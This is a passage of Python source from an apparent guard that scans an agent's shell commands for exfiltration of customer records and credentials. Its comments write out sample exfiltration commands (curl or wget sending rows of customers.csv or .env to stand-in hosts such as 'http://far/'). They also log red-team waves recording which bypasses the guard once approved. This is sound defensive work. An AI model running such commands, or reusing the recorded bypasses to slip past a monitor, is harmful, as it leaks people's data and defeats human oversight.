def _scratch_records(an: Analyzer, path: str) -> bool:
    """rt58 (rt55 left open): a file in a scratch folder outside the workspace (``/tmp``: the policy's
    allowed_paths, so no private file) that the run wrote (its ctime after ``GuardFacts.since``) and whose text holds
    records or a credential: code the analysis does not read as a write (``python3 w.py`` copying ``customers.csv``
    there under a built name) put it there. Where the guard cannot read it (a sandbox's own /tmp) it is not judged."""
    import os

    from macrohard.safety.native import _changed_before

    if an.paths.since is None or not path.startswith(_SCRATCH) or any(c in path for c in "*?[$"):
        return False
    try:
        st = os.stat(path)
    except OSError:
        return False
    return not _changed_before(st.st_ctime_ns, an.paths.since) and records_file(path)


# rt56 (rt55's left-open): interpreter code that opens a file by a name it builds when it runs (python's adjacent
# literals or `chr(99)`, an f-string, `os.listdir()`, a glob, node's `"customers."+"csv"`, perl's `open F, EXPR`,
# awk's `getline < f`): the line names no file, so no rule read it as taking from one. An open whose argument is not
# one plain string literal, or a listing of a folder's names, may open any file there
_OPENS = (r"open|readFileSync|readFile|createReadStream|read_text|read_bytes|read_csv|read_excel|read_json|read_table|"
          r"read_parquet|read_fwf|loadtxt|genfromtxt|fromfile|fopen|file_get_contents|file|readlines|foreach|"
          r"fileinput\.input|connect|ZipFile|TarFile\.open|load_workbook|readLines|read\.csv|slurp|lines|"
          r"(?:File|IO|Files|fs|fsp|Deno)\.(?:read\w*|lines|newBufferedReader|newInputStream)")
_BUILT_OPEN = lazyre.compile(
    r"(?<![\w$-])(?:" + _OPENS + r")\s*\(\s*(?![)\s])(?!(?:sys\.argv|process\.argv|\$?ARGV)\s*\[\s*\d+\s*\]\s*[,)])(?!(?:[rbuRBU]{1,2})?(?P<q>['\"])(?:(?!(?P=q))[^\\${}`])*(?P=q)\s*[,)])"
    r"|(?<![\w$-])(?:listdir|scandir|readdirSync|readdir|iglob|rglob|glob|walk|opendir|entries|each_child|children|"
    r"iterdir|listFiles|list_files|Dir\.glob|Dir\.entries|"
    r"Files\.list|Files\.walk|glob\.sync|globSync)\b\s*\("
    r"|\bopen\s*\(?\s*(?:my\s+)?\$?\w+\s*,\s*(?:(?P<m>['\"])[<+]*(?P=m)\s*,\s*)?(?!(?P<q2>['\"])[<+]?[^'\"$@]*(?P=q2)\s*[;)])"
    r"|\bgetline\b[^;}<|]*<\s*(?!\"[^\"]*\"\s*(?:[;)}]|$))"
    # python's opener under another name (`o=open; o(…)`, `map(open, …)`) or reached by a built name (`getattr(b,
    # "op"+"en")`)
    r"|(?<![\w$.'\"-])open\b(?!\s*\()(?![\w'\"-])|\bgetattr\s*\(\s*[^,()]+,(?!\s*(?P<q3>['\"])\w*(?P=q3)\s*[,)])"
    r"|<\*[^>]*>|\bglob\s*\(")
# an open of the program's own argument (`open(sys.argv[1])`): the line's words name the file, judged as they are
# (``named_records``), unless a word after the code is only known when it runs (`"$(ls | grep ^cl)"`, `"$f"`)
_ARGV_OPEN = lazyre.compile(r"(?<![\w$-])(?:" + _OPENS + r")\s*\(\s*(?:sys\.argv|process\.argv|\$?ARGV)\s*\[")
_CODE_THEN_WORDS = lazyre.compile(r"\s-[ceE]\s*(?:'[^']*'|\"(?:\\.|[^\"\\])*\")((?:\s+[^\s;&|)]+)*)")
_INTERPRETED = lazyre.compile(r"(?<![\w.-])(?:python[\d.]*|pypy3?|node|nodejs|deno|bun|perl|ruby|php|lua\w*|awk|gawk|mawk|"
                              r"nawk|Rscript|julia|tclsh|osascript|jshell|groovy|scala|kotlin|ipython3?)\b")
# rt56: programs that read each file under a folder they are given (`grep -rh SECRET .`), the line's folder when given
# none: a data file there is read as if the line named it
_RECURSIVE = lazyre.compile(r"(?<![\w.-])(?:[ezf]?grep\b[^;&|]*\s-(?:-recursive|-dereference-recursive|[a-zA-Z]*[rR]|d\s*"
                            r"recurse|-directories=recurse)|(?:rg|ag|ack|ack-grep|ugrep|ripgrep)\b"
                            # an archive made of a folder (`tar cf - .`, `zip -r - .`, 7z, cpio)
                            r"|tar\b[^;&|)]*\s(?:-[a-zA-Z]*c|c[a-zA-Z]*\b|--create)|zip\b[^;&|)]*\s-[a-zA-Z]*r|7z\s+a\b|"
                            r"cpio\b[^;&|)]*\s-[a-zA-Z]*o"
                            # git printing the text of the repository's files: grep, archive, a commit's or the work
                            # tree's patch, an object
                            r"|git\b(?:\s+-[Cc]\s+\S+)*\s+(?:grep|archive|cat-file|format-patch|bundle|stash\s+show\s+[^;&|)]*-p|"
                            r"show(?![^;&|)]*\s(?:(?:-s|--no-patch|--stat|--name-only|--name-status|--shortstat|--numstat)\b|"
                            r"[^\s:;&|)-][^\s:;&|)]*:[^\s;&|)]))|"  # (`git show REV:PATH` prints that file alone)
                            r"log\b[^;&|)]*\s(?:-p|-u|--patch)\b|"
                            r"diff(?![^;&|)]*\s(?:--stat|--name-only|--name-status|--shortstat|--numstat|--quiet)\b)))")
_SKIPPED_DIRS = frozenset({".git", "node_modules", ".venv", "venv", "__pycache__", ".mypy_cache", ".pytest_cache",
                           ".tox", ".ruff_cache"})
_UNDER_MAX = 2000  # files looked at under one folder; past it the folder is taken to hold data


def data_under(an: Analyzer, folder: str) -> str:
    """The first data file under ``folder`` (absolute, in the workspace): one ``DATA_KIND`` names or whose text holds
    records (``records_file``); "" if none. Past ``_UNDER_MAX`` files the folder is taken to hold one. Tool caches
    (``_SKIPPED_DIRS``) are not read. Once per line and folder."""
    import os

    memo = an.__dict__.setdefault("data_under_memo", {})
    key = (str(getattr(an, "top_line", "")), folder)
    if key in memo:
        return memo[key]
    found, n, caches = "", 0, []
    for dirpath, dirnames, filenames in os.walk(folder):
        caches += [os.path.join(dirpath, d) for d in sorted(dirnames) if d in _SKIPPED_DIRS]
        dirnames[:] = sorted(d for d in dirnames if d not in _SKIPPED_DIRS)
        for name in sorted(filenames):
            n += 1
            path = os.path.join(dirpath, name)
            if n > _UNDER_MAX:
                found = f"{os.path.relpath(folder, an.paths.workspaces[0])} (more files than the guard reads)"
                break
            if names_data(name) or records_file(path):
                found = os.path.relpath(path, an.paths.workspaces[0])
                break
        if found:
            break
    if not found:
        found = _hidden_data(an, caches)
    if len(memo) > 64:
        memo.clear()
    memo[key] = found
    return found


_CACHE_MAX = 5000  # files looked at in a folder's tool caches; past it the rest are not read (a large node_modules)
# git's own files in .git: its objects (compressed), a ref (one id), a reflog line, and the files it keeps at the top
_GIT_OWN = lazyre.compile(r"(?:^|/)\.git/(?:objects/|(?:index|HEAD|ORIG_HEAD|FETCH_HEAD|MERGE_HEAD|CHERRY_PICK_HEAD|"
                          r"REVERT_HEAD|AUTO_MERGE|packed-refs|COMMIT_EDITMSG|config|description|shallow)$|hooks/|info/)")
_GIT_REF_LINE = lazyre.compile(r"(?:[0-9a-f]{40}|[0-9a-f]{64})(?: [0-9a-f]{40,64} [^\n]*)?|ref: \S+")


def _hidden_data(an: Analyzer, caches: list[str]) -> str:
    """rt58 (rt56 left open): a data file hidden in a tool cache (``.git/``, ``node_modules/``, ``.venv/``,
    ``__pycache__/``…) that ``data_under`` skips, where the run wrote it: a file the run changed (its ctime after
    ``GuardFacts.since``, which nothing in the sandbox can set back) whose text holds records or a credential. The
    caches as the run found them (a project's own node_modules, a venv) are the person's and are not read; git's own
    files (objects, refs, reflogs, its index) are not data. Unknown when the run began (no ``since``): not read."""
    import os

    from macrohard.safety.native import _changed_before

    since = an.paths.since
    if since is None or not caches:
        return ""
    n = 0
    for cache in caches:
        for dirpath, dirnames, filenames in os.walk(cache):
            dirnames.sort()
            for name in sorted(filenames):
                n += 1
                if n > _CACHE_MAX:
                    return ""
                path = os.path.join(dirpath, name)
                if _GIT_OWN.search(path):
                    continue
                try:
                    st = os.lstat(path)
                except OSError:
                    continue
                if _changed_before(st.st_ctime_ns, since) or not records_file(path):
                    continue
                if "/.git/" in path + "/" and ("/refs/" in path or "/logs/" in path) and all(
                        _GIT_REF_LINE.fullmatch(line) for line in (native_text(path) or "x").splitlines() if line):
                    continue  # a ref or a reflog git wrote
                return f"{os.path.relpath(path, an.paths.workspaces[0])} (written during the run in a tool's cache)"
    return ""


def native_text(path: str) -> str | None:
    """The first 64 kB of the file at ``path`` as text, None if it cannot be read."""
    from macrohard.safety import native

    data = native.read(path, 65536)
    return None if data is None else data.decode("utf-8", "replace")


def built_names(an: Analyzer, text: str) -> str:
    """rt56: a data file a line may read by a name only known when it runs: interpreter code on the line (or in a
    script the line runs: ``line_code``) that opens a file by a name it builds (``_BUILT_OPEN``) may open any data
    file of the workspace; a recursive reader (``_RECURSIVE``) reads each file under the folders it names (the line's
    folder when it names none). "" if none."""
    import os

    if not an.paths.workspaces:
        return ""
    codes = [text, *an.__dict__.get("line_code", ())]
    plain = [c.replace('\\"', '"') for c in codes]
    built = any(_BUILT_OPEN.search(c) for c in plain) or any(_ARGV_OPEN.search(c) for c in plain) and any(
        "$" in m.group(1) or "`" in m.group(1) for m in _CODE_THEN_WORDS.finditer(text))
    if built and (
            any(_INTERPRETED.search(c) for c in plain[:1]) or len(plain) > 1):
        if found := data_under(an, an.paths.workspaces[0]):
            return f"{found} (code on the line opens files by names it builds)"
    if _RECURSIVE.search(text):
        cwd = an.paths.resolve(".", an.__dict__.get("top_cwd"))
        folders = [f for m in _PATH_WORD.finditer(text) if not m.group(0).startswith("-") and "$" not in m.group(0)
                   and os.path.isdir(f := os.path.normpath(os.path.join(cwd, m.group(0))))
                   and any(f == ws or f.startswith(ws + "/") for ws in an.paths.workspaces)]
        for folder in dict.fromkeys(folders or [cwd]):
            if found := data_under(an, folder):
                return f"{found} (read by a program that reads every file under {os.path.relpath(folder, cwd)})"
    return ""


# git printing its settings: `git config remote.origin.url`, `git config --list`, `git remote -v`, `git remote
# get-url`, `git ls-remote --get-url`
_GIT_SETTINGS_READ = lazyre.compile(r"(?<![\w.-])git\b((?:\s+-[Cc]\s+\S+)*)[^;&|)]*?\s(?:config\b|remote\b|"
                                    r"ls-remote\s+[^;&|)]*--get-url)")


def git_settings_text(an: Analyzer, text: str) -> str:
    """rt58: a line on which git prints its settings (``git config remote.origin.url``, ``git remote -v``) takes from
    the repository's ``.git/config``: where that file is a credential (``credential_file``: a password in a remote's
    URL, ``https://u:PASS@host/…``), it is a data file's text. The repository is the line's folder's, or one above it in
    the workspace (or ``git -C DIR``'s)."""
    import os

    m = _GIT_SETTINGS_READ.search(text)
    if m is None or not an.paths.workspaces:
        return ""
    cwd = an.paths.resolve(".", an.__dict__.get("top_cwd"))
    dirs = re.findall(r"-C\s+(\S+)", m.group(1) or "")
    here = os.path.normpath(os.path.join(cwd, dirs[-1])) if dirs and "$" not in dirs[-1] else cwd
    ws = an.paths.workspaces[0]
    while here == ws or here.startswith(ws + "/"):
        config = os.path.join(here, ".git", "config")
        if os.path.isfile(config):
            return f"{os.path.relpath(config, ws)} (git prints its settings, which hold a credential)" if \
                credential_file(config) else ""
        here = os.path.dirname(here)
    return ""


def code_data(an: Analyzer) -> str:
    """rt56: a data file that code the line runs names (a script, a workspace program's source the guard reads:
    ``T=$(python3 r.py)`` where r.py opens ``clients``): the line takes from it as if it named it. Once per line and
    piece of code."""
    memo = an.__dict__.setdefault("code_data_memo", {})
    for code in an.__dict__.get("line_code", ()):
        key = (str(getattr(an, "top_line", "")), code)
        if key not in memo:
            if len(memo) > 256:
                memo.clear()
            memo[key] = (f"{found} (named in code the line runs)" if (found := names_data(code) or
                                                                     named_records(an, code, code=True)) else "")
        if memo[key]:
            return memo[key]
    return ""


def line_data(an: Analyzer, text: str) -> str:
    """The data file a line's text takes from: one it names (``DATA_KIND``), a workspace file it names whose text has
    the shape of records (``named_records``), a file an earlier line that carried such text wrote
    (``shellvalues.data_file``), or a name it expands that may hold such text; "" if none."""
    from macrohard.safety.shellvalues import FILE, may_hold_data

    if found := names_data(text) or named_records(an, text) or built_names(an, text) or code_data(an) or \
            git_settings_text(an, text):
        return found
    for m in _FD_USE.finditer(text):  # rt56: a descriptor the session opened on a data file (`exec 3< clients`)
        fd = m.group(1) or m.group(2)
        if FD + fd in an.values.deps or FD + "{}" in an.values.deps and (not fd.isdigit() or int(fd) >= 10) or \
                not fd.isdigit() and any(k.startswith(FD) for k in an.values.deps):
            return f"descriptor {fd} (opened on a data file)"
    marked = [k[len(FILE):] for k in an.values.deps if k.startswith(FILE)]
    for path in marked:
        if posixpath.basename(path) in text:
            return f"{posixpath.basename(path)} (written from a data file's text)"
    for m in _EXPANSION.finditer(text):
        if may_hold_data(an.values, m.group(2) or m.group(3)):
            return f"${m.group(2) or m.group(3)} (a data file's text)"
    return ""


FD = "!fd:"  # a key of ``deps``: a descriptor the session's shell keeps open on a data file (`exec 3< clients`)
# a descriptor read: `read -u 3`, `-u3`, `<&3`, `0<&3`, /dev/fd/3, /proc/self/fd/3
_FD_USE = lazyre.compile(r"(?:^|\s)-\w*u\s*\"?(\d+|\$\{?\w+)|(?:<&|/dev/fd/|/proc/(?:self|\$\$|\d+)/fd/)\s*\"?(\d+|\$\{?\w+)")


def mark_descriptors(an: Analyzer, text: str) -> None:
    """rt56: an ``exec`` with no command, on a line that takes from a data file, opens descriptors the session keeps:
    each one it opens for reading is marked (``FD``), so a later step's ``read -u 3 T`` takes from the data file as
    ``read -r T < clients`` does (``line_data``). A descriptor ``exec 3<&-`` closes stays marked (marks only grow)."""
    for m in _EXEC_REDIRECTS.finditer(text):
        for fd in re.findall(r"(?<![\w&])(\d+)<>?(?!&)", m.group(1)):
            if fd not in ("1", "2"):
                an.values.deps[FD + fd] = {"!data"}
        if re.search(r"\{\w+\}<", m.group(1)):  # `exec {fd}< clients`: bash picks a descriptor of 10 or more
            an.values.deps[FD + "{}"] = {"!data"}


_EXEC_REDIRECTS = lazyre.compile(r"(?<![\w-])exec((?:\s+(?:\{?\w*\}?|\d*)[<>]+&?-?\s*[^\s;&|<>]+)+)")


# rt56: files a network program reads its settings from by itself, by their place (its folder, a parent, the home):
# an index, a registry, a proxy, a remote, a login. Written on a line that takes from a data file, the program sends
# that text at its next run (uv.toml's index-url, .condarc's channel_alias, .cargo/config.toml's proxy, .git/config's
# remote were approved; .npmrc, .curlrc, .netrc… were held by other rules)
_SETTINGS_FILE = lazyre.compile(
    r"(?:^|/)(?:\.npmrc|\.yarnrc(?:\.yml)?|\.pnpmrc|pip\.conf|pip\.ini|\.pypirc|uv\.toml|pyproject\.toml|poetry\.toml|"
    r"\.condarc|condarc|\.mambarc|\.curlrc|_curlrc|\.wgetrc|\.netrc|_netrc|\.gitconfig|\.gitmodules|\.hgrc|\.gemrc|"
    r"\.bowerrc|bunfig\.toml|deno\.jsonc?|package\.json|composer\.json|auth\.json|Pipfile|requirements[\w.-]*\.txt|"
    r"constraints[\w.-]*\.txt|gradle\.properties|\.terraformrc|"
    r"\.docker/config\.json|\.cargo/config(?:\.toml)?|\.ssh/config|\.git/config|\.git/modules/.*/config|\.bundle/config|"
    r"\.m2/settings\.xml|\.config/(?:pip|uv|gh|git|pypoetry|containers|helm|rclone)/[^/]+|\.pip/pip\.conf|"
    r"\.gem/credentials|\.aws/config|\.kube/config|\.gradle/init\.gradle)$")


def settings_written(an: Analyzer, text: str) -> None:
    """rt56: a line that takes from a data file (``line_data``) and writes a network program's settings file
    (``_SETTINGS_FILE``): that program sends the text at its next run; refused where it is written, as a network
    setting in the environment is (rt55)."""
    for path in dict.fromkeys(an.written):
        if not any(c in path for c in "*?[$") and _SETTINGS_FILE.search(path) and (ref := _new_data(an, text)):
            an.r.add("exfiltration", f"writes {posixpath.basename(path)}, a network program's settings, on a line that "
                                     f"takes from {ref}: the program sends them")
            return


# project manifests that tools rewrite in place (``jq '.scripts.lint = …' package.json > p && mv p package.json``); their
# text is the project's own, published with it: credential stores (.npmrc, .pypirc, auth.json, .docker/config.json…)
# are not among them
_MANIFEST = lazyre.compile(r"(?:^|/)(?:package\.json|composer\.json|deno\.jsonc?|pyproject\.toml|Pipfile|"
                           r"requirements[\w.-]*\.txt|constraints[\w.-]*\.txt)$")


def _new_data(an: Analyzer, text: str) -> str:
    """``line_data`` for ``settings_written``, less a project manifest the line writes back from its own text and the
    line's own copies of it (the lead, fifty-sixth wave: rt56's rule refused flow38's honest twin ``jq … package.json
    > p.json && mv p.json package.json``): what the program sends from it is what the manifest held. Any other data
    file the line takes from still counts (``jq --rawfile c customers.csv … package.json``), and so does a file an
    earlier step wrote from a data file's text."""
    written = {posixpath.basename(p) for p in an.written}
    for _ in range(8):
        ref = line_data(an, text)
        name = posixpath.basename(ref.split(" ", 1)[0])
        if not ref or name not in written or not (_MANIFEST.search(name) or " " not in ref):
            return ref  # (a file the line itself writes first, named by its kind alone: its copy, ``p.json``)
        text = re.sub(rf"(?<![\w.-]){re.escape(name)}(?![\w.-])", " ", text)
    return ""


def data_value(an: Analyzer, word: str) -> str:
    """The first expansion in ``word`` whose value may be a data file's text: a value the guard did not read (a
    command's output, a ``read``'s input: ``shellvalues``) on a line that names a data file, or one an earlier step
    took from one (``shellvalues.DATA``); "" if none. A function's body is judged where it is called."""
    from macrohard.safety.shellvalues import POSITIONAL, may_hold_data, may_hold_unread

    if an.defining:
        return ""
    line = line_data(an, str(getattr(an, "top_line", "")))
    for m in _EXPANSION.finditer(word):
        bang, braced, bare = m.groups()
        name = braced or bare
        name = POSITIONAL if name[0].isdigit() or name in ("@", "*") else name
        if bang and line or line and may_hold_unread(an.values, name) or may_hold_data(an.values, name):
            return f"${{{'!' if bang else ''}{name}}}, which may hold the text of {line or 'a data file'}"
    return ""


def setting_data(an: Analyzer, value: str) -> str:
    """A network setting's value (``envvars._NETWORK_SETTING``) that may hold a data file's text: a value only known
    when it runs on a line that takes from one (``data_value``), or a command's output inline that names one; ""."""
    if ref := data_value(an, value):
        return ref
    if ("$(" in value or "`" in value) and (found := line_data(an, value)):
        return f"the output of code that reads {found}"
    return ""


def _addresses(an: Analyzer, prog: str, args: list[str], operands: list[str], cmd: SimpleCommand) -> None:
    """rt54 (rt53's still-through): a data file's text put in the address beside literal text by a value only known
    when it runs (``T=$(sed -n 2p customers.csv); curl "http://h/$T"``, ``read -r T < customers.csv``, a value an
    earlier step exported): the request line carries it out as ``curl "http://h/$(sed -n 2p customers.csv)"`` does,
    which is refused. A whole-word value (``curl "$u"``) is the address itself: judged as before
    (``filewords.judge``)."""
    from macrohard.safety import filewords

    urls = [args[i + 1] for i, a in enumerate(args[:-1]) if a == "--url"] + \
        [a.split("=", 1)[1] for a in args if a.startswith("--url=")]
    urls += [a.split("=", 1)[1] for a in args if a.startswith("--") and "=" in a and _ANY_URL.search(a.split("=", 1)[1])]
    for word in dict.fromkeys([*operands, *urls, *(a for a in args if _ANY_URL.search(a))]):
        if word not in cmd.expanded or not _ANY_EXPANSION.sub("", word).strip("\"'"):
            continue  # no expansion the parse left, or nothing but expansions: the address itself
        if word in cmd.from_files and (why := filewords.sent_data(an, word, cmd)):
            an.r.add("exfiltration", f"{prog} sends {why}, in its address")
        elif ref := data_value(an, word):
            an.r.add("exfiltration", f"{prog} sends {ref}, in its address")


_GIT_CONTACTS = frozenset({"ls-remote", "clone", "fetch", "pull", "push", "archive", "submodule", "remote"})


def _substituted_data(an: Analyzer, args: list[str], clean: re.Pattern[str] | None) -> str:
    """rt63: the data file (``line_data``: records, a credential) that a command's output inline in one of ``args``
    reads (``"x@$(cat k)"``), for a program whose arguments go out in its request; ""."""
    for a in args:
        if ("$(" in a or "`" in a) and _computed(a, clean) and (found := line_data(an, a)):
            return found
    return ""


_HTTPIE = frozenset({"http", "https", "xh", "xhs"})
_CONFIGURED = frozenset({"conda", "mamba", "poetry", "pdm", "hatch", "bundle", "bundler", "gem", "pipenv", "twine",
                         "deno", "bun", "dotnet", "nuget", "mvn", "gradle", "sbt", "conan", "vcpkg", "rustup"})
# rt54: programs that look up a name they are given (the name itself leaks: DNS), and programs besides curl and wget
# that ask for the address they are given (a value in its path goes out in the request)
_RESOLVERS = frozenset({"dig", "nslookup", "host", "ping", "ping6", "drill", "getent", "traceroute", "tracepath", "mtr",
                        "whois", "arping", "delv", "kdig", "resolvectl", "avahi-resolve"})
_CONTACTS = (R.DOWNLOADERS - {"curl", "wget", "wget2"}) | frozenset({
    "git", "pip", "pip3", "uv", "npm", "pnpm", "yarn", "npx", "gem", "cargo", "go", "composer", "svn", "hg", "lynx",
    "links", "w3m", "elinks", "xdg-open", "sensible-browser", "www-browser", "firefox", "chromium", "chromium-browser",
    "google-chrome", "gio", "yt-dlp", "youtube-dl", "ffmpeg", "ffprobe", "docker", "podman", "helm", "kubectl",
    "aria2c", "axel", "rclone", "gh", "http-prompt"})
# httpie's request items that send a file's text (`@FILE` the body, `f=@FILE`, `f:=@FILE`, a form's `f@FILE`, a
# header's `H:@FILE`); a `\` before the separator makes it literal text
_HTTPIE_FILE = lazyre.compile(r"@.|[^\\=:@]*(?<!\\)(?::=@|=@|:@|@).")


def _httpie(an: Analyzer, prog: str, args: list[str], cmd: SimpleCommand) -> None:
    """httpie's (and xh's) request items. rt54: ``http POST URL @customers.csv`` (also ``f=@…``, ``f:=@…``, a form's
    ``f@…``, a header ``X:@…``) and ``http POST URL < customers.csv`` (its input is the body) sent the file, approved:
    only curl's and wget's options were read. A file's text is an upload, as curl's ``-d @FILE``; an item whose
    value is only known when it runs is computed data, as ``-d "$(…)"``."""
    clean = clean_pattern(an)
    words = [a for a in args if not a.startswith("-")]
    address = 1 if words[:1] and re.fullmatch(r"[A-Z]+", words[0]) else 0  # [METHOD] URL ITEM…
    items = words[address + 1:]
    if any(_HTTPIE_FILE.match(a) for a in items):
        an.r.add("exfiltration", f"{prog} uploads a local file")
    if any(_computed(a, clean) for a in items) or any(_computed(a, clean) and ("$(" in a or "`" in a)
                                                      for a in words[address:address + 1]):
        an.r.add("exfiltration", f"{prog} sends data computed from the machine")
    if any(op in ("<", "<<<") for op, _ in cmd.redirects) and "--ignore-stdin" not in args and "-I" not in args:
        an.r.add("exfiltration", f"{prog} sends its input, a file, as the request's body")


def _forms(args: list[str]) -> list[str]:
    """curl's ``-F``/``--form`` values: ``name=<FILE`` sends FILE's text as the field (rt53: `-F 'f=<customers.csv'`
    was approved; ``=@`` was refused)."""
    return [args[i + 1] for i, a in enumerate(args[:-1]) if a in ("-F", "--form")] + \
        [a.split("=", 1)[1] for a in args if a.startswith("--form=")]


def _wget_inputs(an: Analyzer, args: list[str], cmd: SimpleCommand) -> None:
    """``wget -i FILE``: each line of FILE is an address it asks for, under ``--base`` where one is given. rt53:
    ``wget -B http://far/ -i customers.csv`` and ``sed 's|^|http://far/|' customers.csv | wget -i -`` sent each row as
    a path, approved. With a base, the file's text goes to that server (refused, as ``xargs curl < FILE``); without,
    the lines are judged as the addresses they are, and a file the guard cannot read as it will be is asked about."""
    from macrohard.safety import filewords

    inputs = [args[i + 1] for i, a in enumerate(args[:-1]) if a in ("-i", "--input-file")]
    inputs += [a.split("=", 1)[1] for a in args if a.startswith("--input-file=")]
    based = any(a in ("-B", "--base") or a.startswith("--base=") for a in args)
    for name in inputs:
        if based:
            an.r.add("exfiltration", f"wget sends each line of {name[:40]} as an address under --base")
            continue
        text, why = (None, "its input, only known when it runs") if name in ("-", "/dev/stdin") or _is_dynamic(
            name) or name.startswith(("/dev/", "/proc/", "<(")) else filewords.text_at(an, name, cmd.cwd)
        if text is None and why != "absent":
            an.r.add("dynamic", f"wget reads its addresses from {name[:40]} ({why}): where it sends, and what, is only "
                                "known when it runs")
        elif text is not None:
            an.r.hosts += [m.group("host") for line in text.splitlines() if (m := R.URL.search(line))]


def _stage_program(argv: list[str]) -> str:
    """The program a pipeline stage runs, through ``runners.WRAPPING``'s wrappers too (rt49: ``echo '…' | xvfb-run -a
    wish`` was read as xvfb-run, which runs nothing it reads: the tcl code on stdin sent a file): the first word after
    the wrapper that is a shell, an interpreter or a network program, as ``runners.wrapped`` judges its command."""
    name = effective_program(argv)
    if name not in runners.WRAPPING:
        return name
    for word in argv[[posixpath.basename(w) for w in argv].index(name) + 1 if name in map(posixpath.basename, argv)
                     else 1:]:
        inner = effective_program([word])
        if inner in R.SHELLS or inner in R.INTERPRETERS or inner in runners.MORE_INTERPRETERS or inner in _SENDS:
            return inner
    return name


def pipeline(an: Analyzer, stages: list[SimpleCommand]) -> None:
    names = [_stage_program(s.argv) for s in stages]
    runs = [runs_stdin(n, st.argv) for n, st in zip(names, stages, strict=True)]
    # from the end: the first later stage that runs its input as code, and the first that sends to the network
    executor: list[int | None] = [None] * len(stages)
    sender: list[int | None] = [None] * len(stages)
    for j in range(len(stages) - 2, -1, -1):
        nxt = j + 1
        executor[j] = nxt if runs[nxt] else executor[nxt]
        sender[j] = nxt if names[nxt] in R.NETWORK_TOOLS or names[nxt] in ("curl", "wget", "wget2") or \
            names[nxt] in _HTTPIE else sender[nxt]  # rt54: `cat customers.csv | http POST URL` sends its input
    for i, name in enumerate(names[:-1]):
        nxt = stages[i + 1].argv
        if nxt[:1] == ["xargs"] and (text := spliced.printed(stages[i].argv, stages[i].expanded)) is not None:
            spliced.fed(an, nxt[1:], text, stages[i + 1].cwd, 0)  # `printf '%s\n' -d @.env URL | xargs curl`
        if runs[i + 1]:
            _feeds_code(an, stages[i], name, names[i + 1], stages[i + 1])
        elif names[i + 1] in runners.CLIENTS or runners.reads_ex(names[i + 1], stages[i + 1].argv[1:]):
            runners.fed_client(an, stages[i], name, stages[i + 1])
        if (x := executor[i]) is not None:
            if name in R.DOWNLOADERS:
                an.r.add("remote_code", f"pipes a download from {name} into {names[x]}")
            if name in R.DECODERS or decodes(stages[i].argv):
                an.r.add("obfuscation", f"pipes text decoded by {name} into {names[x]}")
        if (k := sender[i]) is None:
            continue
        argv = stages[k].argv if names[k] not in ("curl", "wget") else \
            [stages[k].argv[0], *curlargs.for_program(names[k], stages[k].argv[1:])]
        reads = name in R.READERS or name in R.DUMPERS or name in R.DECODERS or decodes(stages[i].argv) \
            or _prints_a_file(an, stages[i], name) or name in ("echo", "printf") and any(
                a in stages[i].expanded and data_value(an, a) for a in stages[i].argv[1:])  # rt54: `echo "$T" | xargs`
        if reads and (names[k] != "curl" or _spreads(argv) or any(a.startswith("@-") or a == "-T" for a in argv)):
            an.r.add("exfiltration", f"pipes {name}'s output to {names[k]} on the network")


def _prints_a_file(an: Analyzer, stage: SimpleCommand, name: str) -> bool:
    """A program that prints the text of a file it is given (``flow_paths.TEXT_READERS``: sed, awk, sort, tac, cut,
    tr, jq, …), given one: an input redirect, or an operand that names a file of the workspace or one written earlier
    on the line. The lead's second read of rt53 (fifty-third wave): ``cat F | xargs curl`` was refused, ``sed -n 2p F
    | xargs curl`` (a line ``-T.env URL``: curl uploaded ``.env``) approved; READERS named only cat, head, tail, grep…"""
    import os

    from macrohard.safety.flow_paths import TEXT_READERS

    if name not in TEXT_READERS or name in R.INTERPRETERS:
        return False
    if any(op.endswith("<") or op == "<>" for op, _ in stage.redirects):
        return True
    start = an.paths.workspaces[0] if an.paths.workspaces else os.getcwd()
    base = os.path.join(start, stage.cwd) if stage.cwd else start
    for word in stage.argv[1:]:
        if word.startswith("-") or not word:
            continue
        path = os.path.normpath(word if os.path.isabs(word) else os.path.join(base, word))
        if os.path.isfile(path) or word in an.written or path in an.written or an.unmodelled_writes:
            return True
    return False


def _spreads(argv: list[str]) -> bool:
    """``xargs``/``parallel`` before the program: what they read becomes its arguments (a URL, a header)."""
    return bool(argv) and posixpath.basename(argv[0]) in _SPREADERS


def _fed_arguments(an: Analyzer, cmd: SimpleCommand) -> str:
    """The file ``xargs``/``parallel`` turn into the network program's arguments: ``xargs -a FILE``
    (``-aFILE``, ``--arg-file=FILE``), ``parallel … :::: FILE``, or the stage's ``< FILE``; empty if none."""
    if not _spreads(cmd.argv):
        return ""
    argv = cmd.argv
    for i, a in enumerate(argv[1:], 1):
        if a in ("-a", "--arg-file", "::::", "::::+") and i + 1 < len(argv):
            return argv[i + 1]
        if a.startswith("--arg-file="):
            return a.split("=", 1)[1]
        if a.startswith("-a") and len(a) > 2 and not a.startswith("--"):
            return a[2:]
    return next((t for op, t in cmd.redirects if op == "<" and t or  # rt54: `xargs … <<< "$T"`, T a file's text
                 op == "<<<" and _ANY_EXPANSION.search(t) and data_value(an, t)), "")


def _feeds_code(an: Analyzer, stage: SimpleCommand, name: str, executor: str, to: SimpleCommand) -> None:
    """The stage whose output a shell or interpreter runs as code: judge that code, or say it is unknown.

    ``echo CODE | sh`` and ``cat <<EOF | bash`` carry it on the line, ``cat run.sh | bash`` in a file the
    guard reads; any other program's output (``tr``, ``sed``, ``rev``, a script) is only known when it runs."""
    from macrohard.safety import scripts

    shell = executor in R.SHELLS or executor in ("source", ".")
    args = stage.argv[1:]
    if name in R.DOWNLOADERS or name in R.DECODERS or decodes(stage.argv):
        return  # refused by name below
    text = None
    if name == "echo":
        text = scripts.text_written(stage.argv, stage)
    elif name == "printf" and args and "%" not in args[0]:
        text = scripts.text_written(stage.argv[:2], stage)
    elif name == "cat":
        files = [a for a in args if not a.startswith("-")]
        if not files:
            text = scripts.text_written(stage.argv, stage)
        elif not any(_is_dynamic(f) for f in files):
            for f in files:
                if shell:
                    an.script(f, stage.cwd, 1, explicit=True)
                elif (code := scripts.read_script(an, f, stage.cwd, explicit=True)) is not None:
                    an.code(executor, code, 1, stage.cwd)
            return
    if text is None:
        an.r.add("dynamic", f"pipes the output of {name or 'a command'} into {executor}: the code it runs is "
                            "only known when it runs")
    elif text:
        an.line(text, 1, stage.cwd) if shell else an.code(executor, text, 1, stage.cwd)


def stdin_code(command: str, depth: int = 0) -> str:
    """The shell or interpreter a line hands code on its stdin (a pipe, a here-string, a here-document), through
    wrappers and ``sh -c`` code; "" if none. ``safety.flow`` takes such code it cannot read for a send (rt49)."""
    from macrohard.safety.invocation import shell_invocation
    from macrohard.safety.shellparse import parse

    try:
